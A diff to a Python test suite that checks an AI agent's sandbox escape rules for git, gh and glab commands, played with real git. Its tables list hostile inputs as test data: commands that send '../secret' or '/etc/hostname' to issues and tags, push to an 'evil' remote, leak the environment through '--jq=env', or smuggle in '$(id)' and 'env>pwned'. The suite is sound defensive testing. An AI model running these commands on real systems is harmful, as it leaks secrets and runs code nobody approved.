@@ -1,10 +1,11 @@
 """The way out: one command outside the sandbox, with the person's keys, after a question that says so. Played with real git."""
 
+import asyncio
 import os
 import subprocess
 import sys
 import time
-from collections.abc import AsyncGenerator, Callable
+from collections.abc import AsyncGenerator, Callable, Mapping
 from pathlib import Path
 from typing import Any
 
@@ -13,6 +14,7 @@ from msgspec import Raw, json
 
 from hosts import this_host
 from opened import open_session as open_whole
+from processes import comes
 from scripted import OpenAIServer
 from security.test_sandboxed_work import bubblewrap, landlock
 from ybs.agent.environment import Permissions
@@ -28,10 +30,14 @@ from ybs.security.paths import folder_index
 from ybs.security.policy.rules import VERBS, outside_rules
 from ybs.security.sandbox import bubblewrap as bubblewrap_sandbox
 from ybs.security.sandbox import choice
+from ybs.security.sandbox.launch import Launch
 from ybs.session.options import Options
 from ybs.session.settings import environment_of, load_settings
 from ybs.testing import RecordedHook, call
 from ybs.tools.shell import leaving
+from ybs.tools.shell.leaving import Leaving
+from ybs.tools.shell.orphans import CommandMark
+from ybs.tools.shell.path_leases import WAIT_SECONDS
 
 __all__ = ["open_whole"]
 pytestmark = [
@@ -41,6 +47,7 @@ pytestmark = [
 ]
 both = pytest.mark.parametrize("make", [bubblewrap, landlock])
 WHO = {f"GIT_{role}_{what}": "a@b" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}  # fmt: skip
+BUSY = "a command, server, hook or tool that may change files here runs"
 OUT = Answer(is_allowed=True, is_outside=True)
 INSIDE = Answer(is_allowed=True)
 NO = Answer(is_allowed=False, reason="not this")
@@ -57,6 +64,7 @@ class Session:
         *,
         trust: bool = True,
         path: str = "",
+        servers: Mapping[str, Any] | None = None,
         **safety: Any,
     ) -> None:
         self.hook, self.project = RecordedHook(), project
@@ -65,6 +73,7 @@ class Session:
             | ({"PATH": path} if path else {})
         )
         overrides = {f"safety.{name}": value for name, value in safety.items()}
+        overrides |= {"mcpServers": servers} if servers else {}
         options = Options.of(project, {"host": host, "overrides": overrides, "trust": trust})
         self.environment = environment_of(options, load_settings(options))
         self.environment.sandbox.backend = make(project, home)
@@ -124,7 +133,7 @@ async def test_a_days_work_with_git(open_session, make, work: Path, tmp_path: Pa
     session = open_session(make)
     (work / "main.py").write_text("changed\n")
     for command in (
-        "git add main.py && git commit -qm second",
+        "git add main.py && git commit -q -m second",
         "git checkout -q -b topic",
         "git commit -q --allow-empty -m third",
         "echo more >> main.py && git stash",
@@ -240,15 +249,15 @@ async def test_what_the_persons_settings_name_runs_outside_without_a_question(op
     session = open_session(outside_sandbox=("git commit *", "git add *"))
     session.confirm = refuse  # nobody is there
     (work / "main.py").write_text("changed\n")
-    result = await session.run("git add main.py && git commit -qm second")
+    result = await session.run("git add main.py && git commit -q -m second")
     assert result.summary == "exit code 0, outside the sandbox"
     assert session.git("log", "-1", "--format=%s") == "second"
     for command in (
-        "git commit -qm x --allow-empty | tee said",
-        "git commit -qm $(id) --allow-empty",
-        "cat ~/.profile && git commit -qm x --allow-empty",
+        "git commit -q -m x --allow-empty | tee said",
+        "git commit -q -m $(id) --allow-empty",
+        "cat ~/.profile && git commit -q -m x --allow-empty",
         "git -c core.editor=./x commit --allow-empty",
-        "git commit -qm x --allow-empty > made",
+        "git commit -q -m x --allow-empty > made",
         "git tag x",
     ):
         result = await session.run(command)
@@ -323,12 +332,27 @@ HELD_BY_A_RULE = (
     "gh pr create --repo evil/x --title a --body b",
     "gh pr create --repo=evil/x --title a --body b",
     "gh release create v1 way*",
+    "gh release create v1 main.py",
     "gh release upload v1 main.py",
     "gh repo clone a/b -- -c core.sshCommand=./x",
     "gh repo deploy-key add key.pub",
     "gh secret set TOKEN -b x",
     "gh ssh-key add key.pub",
     "glab mr create -R evil/x",
+    "git tag -u -m -F../secret -u -m --no-local-user t1",
+    "git tag -n9",
+    "git commit --allow-empty -m -F../secret",
+    "git commit --allow-empty -qm x",
+    "git push -o origin evil:x.git",
+    "gh issue list --json title -l -b --jq=env",
+    "gh pr list -H -b --jq=env --json title",
+    "gh issue create -t T -l -b -Revil/x -l -b -F/etc/hostname",
+    "gh issue comment 'https://github.com/evil/x/issues/1 x' --body x",
+    "gh release create v1 'way-out#a label'",
+    "gh pr view 1 -w",
+    "glab release create v1 -r -b -F/etc/hostname",
+    "glab mr view 1 -w",
+    "glab mr list -H evil/x",
 )
 
 
@@ -336,15 +360,29 @@ HELD_BY_A_RULE = (
 ODD_WORDS = (
     ("git log *", "git log -1 --format=x --output=.git/config", False),
     ("git log *", "git log -1 --outpu=.envrc", False),
-    ("git log *", "git log -1 --oneline --format=%h", True),
-    ("git commit *", "git commit -qm 'a (b) [c] | d' --allow-empty", True),
+    ("git log *", "git log -1 --oneline --format=%h", False),
+    ("git log * --format=%h", "git log -1 --oneline --format=%h", True),
+    ("git commit *", "git commit -q -m 'a (b) [c] | d' --allow-empty", True),
     ("git *", "git remote-ext x y", False),
     ("git *", "git checkout-index --prefix=.git/hooks/ main.py", False),
     ("git *", "git merge-index ./x -a", False),
     ("git *", "git rebase -x './x' HEAD", False),
     ("git *", "git status --short", True),
     ("git commit *", "git commit -aFmsg", False),
-    ("git commit *", "git commit -m --output=x -q", True),
+    ("git commit *", "git commit -m --output=x -q", False),
+    ("git *", "git commit -a -m 'fix: words, as in ../docs'", True),
+    ("git *", "git commit -m 'https://example.com/x is named'", False),
+    ("git *", "git commit -m '/etc/a b'", False),
+    ("git *", "git commit -am words", False),
+    ("git commit -am *", "git commit -am 'two words'", True),
+    ("git commit -F *", "git commit -F '/etc/a b'", False),
+    ("git *", "git push --tags", True),
+    ("git *", "git fetch", True),
+    ("git *", "git pull --rebase", True),
+    ("git *", "git tag v1", True),
+    ("git *", "git tag -u key v1", False),
+    ("git tag -u key *", "git tag -u key -m 'two words' v1", True),
+    ("git tag -u key *", "git tag -u key -u -m v1", False),
     ("git log *", "git log -m --output=x", False),
     ("git *", "git format-patch -kolink -1", False),
     ("git *", "git init --separate-git-dir=g", False),
@@ -355,13 +393,21 @@ ODD_WORDS = (
     ("git tag *", "git tag 'v1;env>pwned;'", False),
     ("git *", "git push -u origin HEAD:refs/heads/topic", True),
     ("git *", "git checkout -b topic origin/main~1", True),
-    ("git *", "git log --oneline -5 --since='2 days ago' main..topic", True),
+    ("git *", "git log --oneline -5 main..topic", True),
+    ("git *", "git log --since='2 days ago'", False),
     ("gh *", "gh pr create --draft --title 'a (b)' --body 'c; d'", True),
+    (
+        "gh pr create *",
+        "gh pr create --title 'a: b' --body 'Closes https://example.com/1\n- c'",
+        True,
+    ),
+    ("gh pr create *", "gh pr create --title a --body --repo=evil/x", False),
     ("gh *", "gh pr create --body-file way-out", False),
-    ("gh *", "gh issue list --json number --limit 5", True),
+    ("gh *", "gh issue list --json number", False),
+    ("gh issue list --json *", "gh issue list --json number", True),
     ("gh *", "gh repo view a/b", False),
     ("gh pr *", "gh pr list -R me/x", False),
-    ("gh pr list -R me/x *", "gh pr list -R me/x --json number", True),
+    ("gh pr list -R me/x *", "gh pr list -R me/x topic", True),
     ("gh pr list -R me/x *", "gh pr list -R me/x -R evil/x", False),
     ("gh pr * -R me/x", "gh pr list -R evil/x -R me/x", False),
     ("git push *", "git push origin main", True),
@@ -411,10 +457,10 @@ async def test_a_rules_star_stands_for_no_other_repository_place_or_program(
         result = await session.run(command)
         assert "outside the sandbox" not in result.summary, command
         assert not (tmp_path / "leaked").exists(), command
-    assert "outside the sandbox" in (await session.run("git commit -qm x --allow-empty")).summary
+    assert "outside the sandbox" in (await session.run("git commit -q -m x --allow-empty")).summary
     git(work, "init", "-q", "--bare", "made.git")
     assert (
-        "outside the sandbox" not in (await session.run("git commit -qm x --allow-empty")).summary
+        "outside the sandbox" not in (await session.run("git commit -q -m x --allow-empty")).summary
     )
 
 
@@ -472,7 +518,7 @@ async def test_a_rule_goes_on_to_count_where_a_push_noted_its_remote(
     session.confirm = refuse
     for command in (
         "git push -q -u origin main",
-        "git branch topic && git commit -qm second --allow-empty && git push -q",
+        "git branch topic && git commit -q -m second --allow-empty && git push -q",
     ):
         assert (await session.run(command)).summary == "exit code 0, outside the sandbox"
     assert git(tmp_path / "there.git", "log", "-1", "--format=%s", "main") == "second"
@@ -504,6 +550,17 @@ async def test_no_rule_counts_where_git_would_come_to_a_repository_of_this_machi
     assert not (tmp_path / "leaked").exists()
 
 
+async def test_a_value_of_an_option_that_a_rule_names_hides_no_address(
+    open_session, work: Path
+) -> None:
+    git(work, "remote", "add", "origin", "me@127.0.0.1:x.git")
+    session = open_session(outside_sandbox=("git push -o *",))
+    session.answer = NO
+    assert (await session.run("git push -o origin evil:x.git", outside=True)).is_refused
+    assert session.questions[-1].reason.endswith("evil:x.git is not a remote of this repository")
+    assert "outside the" in (await session.run("git push -o origin")).summary
+
+
 async def test_git_that_leaves_by_a_rule_reaches_no_repository_of_this_machine_by_another_name(
     open_session, work: Path, home: Path, tmp_path: Path
 ) -> None:
@@ -530,7 +587,7 @@ async def test_no_rule_goes_on_with_what_was_under_way_when_the_session_began(
     session.answer = OUT
     await session.run("git rebase --continue", outside=True)
     assert (tmp_path / "leaked").exists(), "this one was asked about"
-    assert "outside the" in (await session.run("git commit -qm x --allow-empty")).summary
+    assert "outside the" in (await session.run("git commit -q -m x --allow-empty")).summary
     assert len(session.questions) == 2
 
 
@@ -545,7 +602,7 @@ async def test_a_rule_goes_on_with_what_git_began_in_this_session(open_session, 
     session.confirm = refuse
     assert "CONFLICT" in (await session.run("git merge other")).output
     (work / "main.py").write_text("by both\n")
-    result = await session.run("git add main.py && git commit -qm both")
+    result = await session.run("git add main.py && git commit -q -m both")
     assert result.summary == "exit code 0, outside the sandbox"
 
 
@@ -594,20 +651,122 @@ async def test_what_leaves_by_a_rule_is_not_started_where_the_repository_has_gon
 
 async def test_no_rule_counts_while_a_job_runs_in_the_background(open_session, work: Path) -> None:
     session = open_session(outside_sandbox=("git commit *",))
-    assert "outside the" in (await session.run("git commit -qm x --allow-empty")).summary
+    assert "outside the" in (await session.run("git commit -q -m x --allow-empty")).summary
     session.answer = INSIDE
     await session.run("sleep 30", background=True)
     session.answer = NO
     assert (await session.run("make", outside=True)).is_refused
-    assert "whatever job-1 writes" in session.questions[-1].warnings[-1]
-    assert (await session.run("git commit -qm x --allow-empty", outside=True)).is_refused
-    assert "job-1 runs in the background" in session.questions[-1].reason
+    assert "whatever runs here in the background writes" in session.questions[-1].warnings[-1]
+    assert (await session.run("git commit -q -m x --allow-empty", outside=True)).is_refused
+    assert session.questions[-1].reason.endswith(BUSY)
+
+
+async def test_no_rule_counts_while_a_server_runs_that_may_change_the_project(
+    open_session, work: Path
+) -> None:
+    loop = 'cd "$YBS_PROJECT_DIR" && [ -e main.py ] || exit; while :; do echo x > beat; sleep 0.05; done'
+    entry = {"command": "sh", "args": ["-c", loop], "project": "write"}
+    session = open_session(servers={"s": entry}, outside_sandbox=("git show *",))
+    session.answer = NO
+    starting = asyncio.create_task(session.environment.mcp.connections["s"].settled())
+    assert await comes((work / "beat").exists, 40)
+    assert (await session.run("git show --stat", outside=True)).is_refused
+    assert session.questions[-1].reason.endswith(BUSY)
+    starting.cancel()
+
+
+@pytest.mark.parametrize("way", ["begun", "linked"])
+async def test_what_leaves_by_a_rule_is_looked_at_anew_before_it_starts(
+    open_session, work: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
+) -> None:
+    session = open_session(outside_sandbox=("git add *",))
+    session.confirm = refuse
+    mark = CommandMark.new()
+
+    async def meanwhile(*_: object) -> None:
+        if way == "begun":
+            return await mark.begin(Launch((), {}, writable=(f"{work}/sub",)))
+        (work / "main.py").rename(tmp_path / "main.py")
+        return (work / "main.py").symlink_to(tmp_path / "main.py")
+
+    monkeypatch.setattr(session.hook, "before_change", meanwhile)
+    result = await session.run("git add main.py")
+    said = BUSY if way == "begun" else "main.py is found by a link"
+    assert result.is_refused
+    assert f"safety.outside_sandbox does not count by now: {said}" in result.output
+    mark.abandon()
+
+
+async def test_nothing_that_may_change_files_begins_while_git_that_left_by_a_rule_runs(
+    open_session, work: Path
+) -> None:
+    session, mark = open_session(), CommandMark.new()
+    async with Leaving("git status", work, session.environment.workspace).held():
+        beginning = asyncio.create_task(mark.begin(Launch((), {}, writable=(f"{work}/sub",))))
+        await asyncio.sleep(3 * WAIT_SECONDS)
+        assert not beginning.done()
+    await beginning
+    mark.abandon()
+
+
+async def test_what_was_said_to_load_nothing_is_not_started_where_it_does_by_then(
+    open_session, work: Path
+) -> None:
+    """A repository that is made after the answer would have the command find programs of the project."""
+    session = open_session()
+
+    async def confirm(question: Question) -> Answer:
+        session.questions.append(question)
+        git(work, "init", "-q", "--bare", "made.git")
+        return OUT
+
+    session.confirm = confirm
+    result = await session.run("git commit -q -m x --allow-empty", outside=True)
+    assert result.is_error
+    assert "since the question the command may load what lies in the project" in result.output
+    assert session.git("log", "--format=%s") == "first"
+    result = await session.run("git commit -q -m x --allow-empty", outside=True)
+    assert "outside the sandbox" in result.summary, "the question said so"
+    assert len(session.questions) == 2
+
+
+@pytest.mark.parametrize(
+    "name", ["glab-cli/config.yml", "gh-resolved", "config.yml", "Hooks/x", "index.txt"]
+)
+async def test_no_rule_counts_where_gits_own_folder_holds_what_is_not_gits(
+    open_session, work: Path, name: str
+) -> None:
+    session = open_session(outside_sandbox=("git *", "glab *"))
+    assert "outside the" in (await session.run("git commit -q -m x --allow-empty")).summary
+    session.answer = NO
+    place = work / ".git" / name
+    place.parent.mkdir(exist_ok=True)
+    place.write_text("browser: ./x\n")
+    for command in ("glab mr list", "git status"):
+        assert (await session.run(command, outside=True)).is_refused
+        said = f"{work / '.git' / name.partition('/')[0]} is not git's own"
+        assert said in session.questions[-1].reason
+
+
+async def test_what_git_itself_leaves_in_its_folder_ends_no_rule(open_session, work: Path) -> None:
+    git(work, "commit", "-q", "--allow-empty", "-m", "more")
+    git(work, "bisect", "start", "HEAD", "HEAD~1")
+    git(work, "bisect", "reset")
+    git(work, "update-index", "--split-index")
+    git(work, "pack-refs", "--all")
+    git(work, "worktree", "add", "-q", str(work.parent / "other"))
+    git(work, "fetch", "-q", ".")
+    git(work, "rm", "-q", "--cached", "main.py")
+    git(work, "stash", "-q")
+    session = open_session(outside_sandbox=("git commit *",))
+    session.confirm = refuse
+    assert "outside the" in (await session.run("git commit -q -m x --allow-empty")).summary
 
 
 async def test_a_rule_counts_only_in_a_project_that_is_trusted(open_session, work: Path) -> None:
     session = open_session(trust=False, outside_sandbox=("git commit *",))
     session.answer = NO
-    result = await session.run("git commit -qm x --allow-empty")
+    result = await session.run("git commit -q -m x --allow-empty")
     assert "outside the sandbox" not in result.summary
     assert session.git("log", "--format=%s") == "first"
     assert any("only in a project that you trust" in each.reason for each in session.questions)
@@ -631,7 +790,7 @@ async def test_git_that_leaves_and_of_which_the_question_names_no_file_finds_no_
     path = plant(work, tmp_path, "git", "ssh")
     git(work, "remote", "add", "origin", "me@127.0.0.1:x.git")
     session = open_session(path=path, outside_sandbox=() if is_asked else ("git *",))
-    assert "outside the" in (await session.run("git commit -qm x --allow-empty")).summary
+    assert "outside the" in (await session.run("git commit -q -m x --allow-empty")).summary
     assert "Connection refused" in (await session.run("git push origin main", outside=True)).output
     assert len(session.questions) == 2 * is_asked
     assert not any("venv" in str(each) for each in session.questions)
@@ -642,7 +801,7 @@ async def test_git_that_leaves_and_of_which_the_question_names_no_file_finds_no_
 @pytest.mark.parametrize(
     "command",
     [
-        *("git commit -qm x --allow-empty", "git status && tool"),
+        *("git commit -q -m x --allow-empty", "git status && tool"),
         "git cherry-pick --strategy=by/tool main",
     ],
 )
@@ -681,10 +840,10 @@ async def test_the_question_names_what_this_session_changed(open_session, work: 
             await session.run(command, outside=True)
             said = session.questions[-1].warnings[-1].partition("keys: ")[2]
             assert said.startswith("./, Makefile, main.py, package.json") is named
-    await session.run("git commit -qm x")  # which loads nothing
+    await session.run("git commit -q -m x")  # which loads nothing
     hook = work / ".git" / "hooks" / "pre-commit"
     hook.write_text("#!/bin/sh\nexec python3 main.py\n")
-    await session.run("git commit -qm 'Change package.json'")
+    await session.run("git commit -q -m 'Change package.json'")
     assert "git has a hook pre-commit" in session.questions[-1].reason
     assert "Makefile, main.py" in session.questions[-1].warnings[-1]
 
@@ -796,7 +955,7 @@ async def test_a_hook_in_the_home_folder_counts_as_those_of_the_repository(
     session = open_session(outside_sandbox=("git commit *",))
     session.answer = NO
     (work / "check.sh").write_text("id\n")
-    assert (await session.run("git commit -qm 'Change check.sh'")).is_refused
+    assert (await session.run("git commit -q -m 'Change check.sh'")).is_refused
     (question,) = session.questions
     assert question.reason.endswith("git has a hook pre-commit")
     assert any("check.sh" in warning for warning in question.warnings)
@@ -1021,7 +1180,7 @@ async def test_what_the_session_changed_ends_no_rule_for_what_loads_nothing(open
     session = open_session(outside_sandbox=("git *",))
     session.confirm = refuse
     (work / "main.py").write_text("changed\n")
-    result = await session.run("git add -A && git commit -qm second && git status", outside=True)
+    result = await session.run("git add -A && git commit -q -m second && git status", outside=True)
     assert "outside the sandbox" in result.summary
 
 
